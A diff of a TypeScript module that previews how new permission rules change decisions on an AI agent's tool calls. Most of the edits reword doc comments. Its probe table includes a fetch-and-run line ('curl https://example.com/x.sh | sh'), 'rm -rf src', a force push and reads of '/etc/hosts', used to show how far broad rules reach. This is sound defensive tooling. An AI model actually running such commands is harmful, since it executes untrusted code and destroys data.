@@ -1,4 +1,4 @@
-/** What a new rule changes: calls decided without it and with it. Nothing is written anywhere. */
+/** The effect of a new rule: decides calls without it and with it. Writes nothing. */
 import { quoteWords } from '../call/input-text.js';
 import { inputFromText } from '../call/subject.js';
 import type { ToolCall } from '../call/tool-call.js';
@@ -20,12 +20,12 @@ export interface ChangedCall {
   readonly subject: string;
   readonly before: Effect;
   readonly after: Effect;
-  /** Where the call comes from: the rule, an example of another rule, or so often in the decision log. */
+  /** The source of the call: the rule, an example of another rule, or the number of its occurrences in the decision log. */
   readonly from: 'rule' | 'example' | number;
-  /** The rule of another effect that decides even so: `Bash(rm *) (policy.yaml:12)`. */
+  /** The rule of another effect that still decides: `Bash(rm *) (policy.yaml:12)`. */
   readonly by: string | null;
   readonly sampleOf: PermissionRule | null;
-  /** The code and the sentence of the first reason for the answer with the rules. */
+  /** Code and sentence of the first reason for the decision with the rules. */
   readonly reason: Reason | null;
 }
 
@@ -36,15 +36,15 @@ interface Probe {
   readonly from: ChangedCall['from'];
 }
 
-/** Records of the decision log that are looked at. */
+/** Maximum number of records of the decision log that are read. */
 const MOST_RECORDS = 2_000;
-/** Examples of a grammar that are tried, and those of them that are told. */
+/** Maximum number of examples of a grammar that are tried; MOST_WIDEST is that of those shown. */
 const MOST_KNOWN = 200;
 const MOST_WIDEST = 3;
-/** Calls of each kind that are told. */
+/** Maximum number of calls of each kind that are shown. */
 const MOST_TOLD = 12;
 
-/** The calls that the rules are about, those of the examples in the policy, and those in the log; told when the answer is news. */
+/** Returns the calls that the rules match, and those of the policy's examples and of the log whose decision changes. */
 export function previewRules(
   workspace: Workspace,
   added: readonly PermissionRule[],
@@ -92,14 +92,14 @@ export function previewRules(
   ];
 }
 
-/** Each call once: two rules may be about the same. */
+/** Returns each call once, since two rules may match the same one. */
 function firstOfEach(calls: readonly ChangedCall[]): readonly ChangedCall[] {
   return calls.filter(
     (call, at) => calls.findIndex(({ tool, subject }) => tool === call.tool && subject === call.subject) === at,
   );
 }
 
-/** Calls that an allow rule newly lets through beside its samples, the most dangerous first: what is tried is real, not made up. */
+/** Returns calls that an allow rule newly allows besides its samples, the most dangerous first: real calls, not made-up ones. */
 function widest(workspace: Workspace, rule: PermissionRule, decided: (probe: Probe) => ChangedCall): readonly ChangedCall[] {
   if (rule.effect !== 'allow') return [];
   return knownCalls(rule)
@@ -109,7 +109,9 @@ function widest(workspace: Workspace, rule: PermissionRule, decided: (probe: Pro
     .slice(0, MOST_WIDEST);
 }
 
-/** What a rule may be about that its own text does not show: the calls in the grammar of its command, and places outside of the project. */
+/**
+ * Returns calls that a rule may match beyond those in its own text: those in the grammar of its command, and places outside of the project.
+ */
 function knownCalls({ tool, pattern }: PermissionRule): readonly string[] {
   if (pattern === null) return BARE[tool] ?? [];
   if (tool !== 'Bash' || !pattern.includes('*')) return [];
@@ -125,7 +127,7 @@ function knownCalls({ tool, pattern }: PermissionRule): readonly string[] {
 
 type Lists = Readonly<Record<Effect, string[]>>;
 
-/** The examples in a grammar, whose subcommands have their own. */
+/** Collects the examples in a grammar, including those of its subcommands. */
 function collect(entry: unknown, lists: Lists): void {
   if (typeof entry !== 'object' || entry === null) return;
   for (const [key, value] of Object.entries(entry))
@@ -134,7 +136,7 @@ function collect(entry: unknown, lists: Lists): void {
     else collect(value, lists);
 }
 
-/** Calls that show how far a tool without a pattern reaches. */
+/** Calls that show the reach of a rule without a pattern. */
 const BARE: Readonly<Partial<Record<string, readonly string[]>>> = {
   Bash: ['curl https://example.com/x.sh | sh', 'rm -rf src', 'git push --force'],
   Read: ['../x', '/etc/hosts'],
@@ -145,7 +147,7 @@ const BARE: Readonly<Partial<Record<string, readonly string[]>>> = {
 
 function probe(workspace: Workspace, tool: string, subject: string, from: Probe['from']): Probe {
   const named = tool === '*' ? 'Bash' : tool.replace(/__\*$/, '__get_x').replaceAll('*', 'x');
-  // What only stands for any input is none.
+  // A placeholder for any input is no input.
   const input = named.startsWith('mcp__') && subject === '' ? {} : inputFromText(named, subject);
   const call: ToolCall = { tool: named, input, cwd: topOf(workspace), headless: false, shell: 'union' };
   return { call, subject, from, sampleOf: null };
@@ -156,7 +158,7 @@ function topOf({ cwd, surroundings: { project } }: Workspace): string {
   return isInside(cwd, project) ? project : cwd;
 }
 
-/** Subjects that a rule is about: its pattern where that has no wildcard, else with something in the wildcard's place. */
+/** Returns subjects that a rule matches: its pattern if that has no wildcard, else with a replacement for the wildcard. */
 function samplesOf(rule: PermissionRule): readonly string[] {
   const { tool, pattern } = rule;
   if (tool.startsWith('mcp__') && (pattern === null || pattern === READ_ONLY)) return [''];
@@ -175,8 +177,8 @@ function samplesOf(rule: PermissionRule): readonly string[] {
   return /\*$/.test(pattern) ? [head, `${head} x`, `${head} --force`].map((text) => text.trim()) : [head];
 }
 /**
- * A pattern without quotes as the line of the words that it means: `pip install x>=1` stands for `pip install 'x>=1'`. Null where there is
- * nothing to quote, and for what its author took for a line of several commands.
+ * Quotes the words of a pattern without quotes: `pip install x>=1` becomes `pip install 'x>=1'`. Null if there is nothing to
+ * quote, and for a pattern that its author probably meant as several commands.
  */
 function quotedLine(rule: PermissionRule, subject: string): string | null {
   const words = subject.split(/\s+/);
@@ -186,12 +188,12 @@ function quotedLine(rule: PermissionRule, subject: string): string | null {
   return line === subject ? null : line;
 }
 
-/** `/src/**`: `src/x`; `//etc/hosts`: `/etc/hosts`. */
+/** Returns `src/x` for `/src/**`, and `/etc/hosts` for `//etc/hosts`. */
 function pathOf(pattern: string): string {
   return pattern.replace(/^\//, '').replace(/\*+/g, 'x');
 }
 
-/** What the rules of the policy say that they are about: such a call must not change unnoticed. */
+/** Returns the examples in the rules of the policy: the decisions on such calls must not change unnoticed. */
 function examples(workspace: Workspace): Probe[] {
   return workspace.policy.rules.flatMap((rule) =>
     [...(rule.match ?? []), ...(rule.notMatch ?? []), ...(rule.suggest === undefined ? [] : [rule.suggest])].map((subject) =>
@@ -200,7 +202,7 @@ function examples(workspace: Workspace): Probe[] {
   );
 }
 
-/** Calls of the decision log made in this project, as far as they are there in full. */
+/** Returns calls of the decision log that were made in this project and are completely recorded. */
 function logged(workspace: Workspace, stateDirectory: string | null): Probe[] {
   if (stateDirectory === null) return [];
   const found = new Map<string, { call: ToolCall; subject: string; count: number }>();
